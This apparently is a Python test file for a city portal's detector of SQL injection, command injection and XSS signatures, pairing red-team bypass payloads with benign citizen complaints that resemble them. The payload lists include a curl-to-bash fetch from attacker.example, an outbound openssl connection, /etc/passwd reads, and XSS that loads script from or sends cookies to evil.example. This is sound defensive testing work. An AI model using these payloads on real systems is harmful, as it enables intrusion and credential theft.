"""Bypasses a red team found in the SQL, command injection and XSS signatures, now fixed:
each payload on an endpoint the learned profile does not know, and the complaints and
searches a citizen sends that look like them."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from citywatch.detect.portal.signatures import WebAttackSignatures
from citywatch.model import Event, HttpRequest

DETECTOR = WebAttackSignatures()
_FORM = (("Host", "portal.aldmere.city"), ("Content-Type", "application/x-www-form-urlencoded"))


def search(value: str, name: str = "q") -> Event:
    """``GET /services/search?q=...``, an endpoint no profile knows."""
    uri = f"/services/search?{name}={quote(value, safe='')}"
    req = HttpRequest(method="GET", uri=uri)
    return Event(id="r", timestamp=0.0, dataset="portal.http", payload=req)


def posted(path: str, **fields: str) -> Event:
    body = "&".join(f"{k}={quote(v, safe='')}" for k, v in fields.items())
    req = HttpRequest(method="POST", uri=path, headers=_FORM, body=body)
    return Event(id="r", timestamp=0.0, dataset="portal.http", payload=req)


def _rules(event: Event) -> set[str]:
    return {h.rule_id for h in DETECTOR.inspect(event)}


def _quiet(value: str) -> None:
    assert DETECTOR.inspect(search(value)) == [], value
    assert DETECTOR.inspect(posted("/complaints", category="roads", text=value)) == [], value


# SQL injection

SQLI = [
    ("-1' UNION(SELECT 1,2,3)-- -", "web.sqli.union"),
    ("1 UNION(SELECT username,password FROM users)", "web.sqli.union"),
    ("'='", "web.sqli.quote-break"),
    ("'-'", "web.sqli.quote-break"),
    ("'=0-- -", "web.sqli.quote-break"),
    ("x'='x", "web.sqli.quote-break"),
    ("1 or 1 like 1", "web.sqli.tautology"),
    ("1 OR true", "web.sqli.tautology"),
    ("1 rlike 1", "web.sqli.tautology"),
    ("1 AND 1 BETWEEN 0 AND 2", "web.sqli.tautology"),
    ("1 AND 1 IS NOT NULL", "web.sqli.tautology"),
    ("1 and 1 is null-- -", "web.sqli.tautology"),
    ("(CASE WHEN (1=1) THEN name ELSE id END)", "web.sqli.tautology"),
    ("1 AND (CASE WHEN 1=1 THEN 1 ELSE 0 END)=1", "web.sqli.tautology"),
]
SQLI_BENIGN = [
    "The bus at 5; then I go home & sleep (5 hours) - union meeting at 7",
    "I paid 1 or 2 times",
    "Either 1 or true?",
    "1 or 2",
    "1 or 2 is fine",
    "5 in 10",
    "3 and true story",
    "2 and 2 between the lines",
    "Just in case when the tram is late, then I walk",
    "The sign '=' means equals",
    "Rock 'n' roll - O'Brien-O'Neil & Ñúñez",
    "Use '-' between the house numbers",
    "Müller's note: 'a' = 'b' is wrong",
]


@pytest.mark.parametrize(("value", "rule"), SQLI)
def test_sql_injection_bypasses_are_caught(value: str, rule: str) -> None:
    assert rule in _rules(search(value)), DETECTOR.inspect(search(value))


@pytest.mark.parametrize("value", ["'='", "'-'", "'=0-- -"])
def test_a_login_bypass_without_trigger_words_is_caught_on_the_login_form(value: str) -> None:
    assert "web.sqli.quote-break" in _rules(posted("/login", username=value, password=value))


@pytest.mark.parametrize("value", SQLI_BENIGN)
def test_complaints_that_look_like_sql_are_not_flagged(value: str) -> None:
    _quiet(value)


# OS command injection

CMDI = [
    "127.0.0.1;who$()ami",
    "x;who``ami",
    "127.0.0.1;{curl,attacker.example/s.sh}|{bash,}",
    "127.0.0.1;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
    "a;IFS=,;`cat<<<uname,-a`",
    "127.0.0.1 & ver",
    "127.0.0.1 & tasklist",
    ";getent passwd",
    ";reboot",
    ";openssl s_client -quiet -connect 203.0.113.9:443",
    "1; cat -n /etc/passwd",  # a path after an option, and early arguments, still count
    "1; tar czf /tmp/x.tgz /etc",
    "x..;id",
]
CMDI_BENIGN = [
    "Street light #12 broken; cat stuck on tree near /home/street",
    "Ver & Tasklist are our café's names",
    "Router frozen; reboot it please",
    "Lights out; getent? no idea",
    "Vrata: {ulaz,izlaz} su zatvorena",
    "Dog; cat and bird seen near the tram stop on /Ilica",
]


@pytest.mark.parametrize("value", CMDI)
def test_command_injection_bypasses_are_caught(value: str) -> None:
    assert "web.cmdi.command" in _rules(posted("/complaints", text=value)), value


@pytest.mark.parametrize("value", CMDI_BENIGN)
def test_complaints_that_look_like_commands_are_not_flagged(value: str) -> None:
    _quiet(value)


def test_a_tomcat_path_parameter_is_traversal_not_a_command() -> None:
    req = HttpRequest(method="GET", uri="/..;/actuator/env")
    rules = _rules(Event(id="r", timestamp=0.0, dataset="portal.http", payload=req))
    assert "web.traversal.path" in rules
    assert not any(r.startswith("web.cmdi.") for r in rules), rules


# Cross-site scripting

XSS = [
    ("javascript://\nalert(1)", "next"),
    ("javascript://%0aalert(1)", "next"),
    ("javascript:top['al'+'ert'](1)", "next"),
    ("javascript:(alert)(1)", "next"),
    ("<img alt=\">\" src=x onerror=import('//evil.example/x.js')>", "q"),
    ("<img/alt=\">\"\nsrc=x\tonerror=import('//evil.example/x.js')>", "q"),
    ("'-top['al'+'ert'](1)-'", "q"),
    ("\";window.location='//evil.example/?'+document['cookie'];//", "q"),
]
XSS_BENIGN = [
    "See [the map](https://portal.aldmere.city/map) for the stop",
    "Müller's note: 'a > b' onboarding = fine",
    "window location unclear; top [1] (see annex)",
    "2 times; then 3 - javascript: is off (fine)",
    "Fenster: window.location = unklar, Seite 3",
]


@pytest.mark.parametrize(("value", "name"), XSS)
def test_xss_bypasses_are_caught(value: str, name: str) -> None:
    assert any(r.startswith("web.xss.") for r in _rules(search(value, name))), value


@pytest.mark.parametrize("value", XSS_BENIGN)
def test_complaints_that_look_like_script_are_not_flagged(value: str) -> None:
    _quiet(value)
